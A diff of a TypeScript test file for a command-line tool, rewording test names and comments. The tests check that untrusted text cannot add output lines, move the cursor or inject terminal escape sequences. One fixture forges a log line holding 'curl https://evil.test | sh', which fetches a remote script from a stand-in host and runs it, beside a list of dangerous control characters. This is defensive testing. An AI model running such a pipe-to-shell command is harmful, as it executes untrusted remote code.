@@ -1,4 +1,4 @@
-// Text that this program did not write, through everything that prints: nothing of it forges a line or turns one.
+// Untrusted text in every output of the program: it can neither forge a line nor reverse one.
 
 import { describe, expect, test } from "bun:test";
 import fc from "fast-check";
@@ -17,7 +17,7 @@ import { fakeHost } from "../fake-host.ts";
 
 const plain = voiceOf({ colour: false, hint: (argv) => [...argv] });
 
-/** What ends a line, moves a cursor, turns the direction of text, or is not seen. */
+/** Characters that end a line, move the cursor, change the direction of text, or are invisible. */
 const hostile = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;
 
 const dangers = ["\n", "\r", "\t", "\0", "\u0007", "\u001B[2J", "\u001B]0;", "\u007F", "\u0085", "\u009B31m", "\u200B"];
@@ -29,7 +29,7 @@ const foreign = fc.oneof(
   fc.string({ unit: "binary", minLength: 1, maxLength: 40 }),
 );
 
-/** The lines of a text that ends in a line end, each without anything hostile. */
+/** Returns the lines of a text, after checking that it ends with a newline and contains nothing hostile. */
 function shown(text: string): string[] {
   expect(text).toEndWith("\n");
   const lines = text.slice(0, -1).split("\n");
@@ -52,7 +52,7 @@ function failed(text: string): { problem: Problem; result: StepResult; changes: 
   return { problem, changes, result: { id: "a", title: `a ${text}`, outcome: "pending", ...lists, problem } };
 }
 
-describe("foreign text is printed on as many lines as there are, and moves no cursor", () => {
+describe("untrusted text: adds no lines and moves no cursor", () => {
   const each = (check: (text: string) => void): void => fc.assert(fc.property(foreign, check), { numRuns: 300 });
 
   test("in a problem and its hint", () =>
@@ -60,7 +60,7 @@ describe("foreign text is printed on as many lines as there are, and moves no cu
       expect(shown(problemText(failed(text).problem, text, plain))).toHaveLength(2);
     }));
 
-  test("in a step, its changes, warnings and what could not be seen", () =>
+  test("in a step, its changes, warnings and unknown facts", () =>
     each((text) => {
       expect(shown(stepText(failed(text).result, plain))).toHaveLength(1 + 6 + 1 + 1);
     }));
@@ -74,7 +74,7 @@ describe("foreign text is printed on as many lines as there are, and moves no cu
       expect(xml).not.toMatch(/[\uFFFE\uFFFF]/);
     }));
 
-  test("in a line that a command prints, where no tab makes a column", () =>
+  test("in a line of a command's output, where a tab adds no column", () =>
     each((text) => {
       const [line] = shown(lineOf`${text}\t${7}`);
       expect(line?.split("\t")).toEqual([oneLine(text), "7"]);
@@ -94,11 +94,11 @@ describe("foreign text is printed on as many lines as there are, and moves no cu
     each((text) => {
       const content = text.replaceAll("\n", "");
       const change: Change = { kind: "removal", path: `/${text}`, before: Text.of(`${content}\n`) };
-      // Two names, the place, and the line itself.
+      // Two file names, the hunk header, and the line itself.
       expect(shown(diffOf(change))).toHaveLength(4);
     }));
 
-  test("in the line at the bottom of a terminal", () =>
+  test("in the status line of a terminal", () =>
     each((text) => {
       const drawn: string[] = [];
       const line = progressLine(
@@ -111,7 +111,7 @@ describe("foreign text is printed on as many lines as there are, and moves no cu
       line.clear();
     }));
 
-  test("in JSON, which has the bytes of data as they are and sentences as they are printed", () =>
+  test("in JSON, which keeps data unchanged and messages as printed", () =>
     each((text) => {
       const { changes, result } = failed(text);
       const finding = { name: "a", status: "error" as const, detail: text, hint: ["ls", text] };
@@ -130,7 +130,7 @@ describe("foreign text is printed on as many lines as there are, and moves no cu
       for (const sentence of [...sentences, findings[0].detail]) expect(sentence).not.toMatch(hostile);
     }));
 
-  test("in what is typed wrongly", async () => {
+  test("in invalid arguments", async () => {
     const check = async (text: string): Promise<void> => {
       const lines = [
         [text],
@@ -148,7 +148,7 @@ describe("foreign text is printed on as many lines as there are, and moves no cu
   });
 });
 
-test("a name that forges lines stays one line, and the line to type still means it", () => {
+test("hint: a name with newlines stays on one line, and the quoted command still refers to it", () => {
   const name = "a\n\nFATAL: x\nhint: curl https://evil.test | sh";
   const problem = new Problem("blocked", `${name} is neither a directory nor an archive`, {
     hint: ["ls", "-ld", name],
@@ -159,8 +159,8 @@ test("a name that forges lines stays one line, and the line to type still means 
   );
 });
 
-test("a word of a hint is the same word again when bash reads it", () => {
-  // No argument holds NUL, and half of a character is none.
+test("hint: bash reads every word of a hint back unchanged", () => {
+  // An argument cannot contain NUL or an unpaired surrogate.
   const argument = foreign.map((text) => text.replaceAll("\0", "").toWellFormed());
   fc.assert(
     fc.property(fc.array(argument, { minLength: 1, maxLength: 20 }), (argv) => {
@@ -173,6 +173,6 @@ test("a word of a hint is the same word again when bash reads it", () => {
   );
 });
 
-test("a sequence that does not end hides nothing of what comes after it", () => {
+test("linesOf: an unterminated escape sequence does not hide the text after it", () => {
   expect(linesOf("a\u001B]0;b\nc\u001BPd")).toEqual(["a\\u001b]0;b", "c\\u001bPd"]);
 });
